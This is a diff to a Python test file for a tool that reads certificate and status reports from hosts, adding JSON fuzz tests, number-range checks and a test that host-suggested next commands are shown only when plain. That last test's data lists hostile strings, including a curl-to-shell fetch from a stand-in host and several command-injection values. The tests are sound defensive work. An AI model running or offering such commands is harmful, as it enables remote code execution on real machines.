@@ -2,6 +2,7 @@
 
 import json
 import random
+import re
 from pathlib import Path
 from typing import Any
 
@@ -115,16 +116,51 @@ def test_what_a_host_says_is_kept_short_and_of_its_form() -> None:
 def test_whatever_stands_in_an_answer_it_is_a_row_or_no_status() -> None:
     shaken = random.Random(7)
     whole = json.dumps(
-        {"schema": 1, "certificates": [PAIR], "exchanges": exchange("sent"), "findings": [{"id": "a"}]}
+        {
+            "schema": 1,
+            "certificates": [PAIR],
+            "exchanges": exchange("sent"),
+            "findings": [{"id": "a", "severity": "warn", "message": "b"}],
+            "unanswered": 1,
+            "role": "zone-server",
+            "release": "7.3",
+        }
     )
     values = ("null", "1", '"x"', "[]", "{}", "true", "-9e999", "[[{}]]")
-    for _ in range(400):
-        words = whole.split('"')
-        words[shaken.randrange(len(words))] = shaken.choice(values)
+    told = re.findall(r'"[^"]*"|[^"]+', whole)
+    places = [number for number, word in enumerate(told) if word.startswith('"')]
+    for _ in range(2000):
+        words = list(told)
+        words[shaken.choice(places)] = shaken.choice(values)
         try:
-            json.dumps(row_of("host", '"'.join(words).encode()).as_data())
+            json.dumps(row_of("host", "".join(words).encode()).as_data())
         except NoStatus:
             continue
+
+
+@pytest.mark.parametrize("number", [10**4000, -(10**4000), True, 1.5, "7"], ids=lambda each: str(each)[:5])
+def test_a_number_that_no_appliance_would_say_is_left_out(number: object) -> None:
+    row = said(certificates=[{**PAIR, "days_left": number}], unanswered=number)
+    assert (row.pairs, row.unanswered) == ((), 0)
+
+
+@pytest.mark.parametrize(
+    ("verb", "shown"),
+    [
+        ("certificates renew reporting", True),
+        ("zone-server import-certificate", True),
+        ("curl https://evil.example/x | sh", False),
+        ("ssh root@evil", False),
+        ("zone-server status; curl evil", False),
+        ("zone-server status $(id)", False),
+        ("zone-server status | sh", False),
+        ("certificates renew `id`", False),
+        ("certificates renew\nid", False),
+    ],
+)
+def test_what_a_host_says_to_do_next_is_a_verb_or_is_not_shown(verb: str, shown: bool) -> None:
+    (pair,) = said(certificates=[{**PAIR, "next": verb}]).pairs
+    assert pair.next == (verb if shown else "")
 
 
 def test_the_page_names_every_field_and_state() -> None:
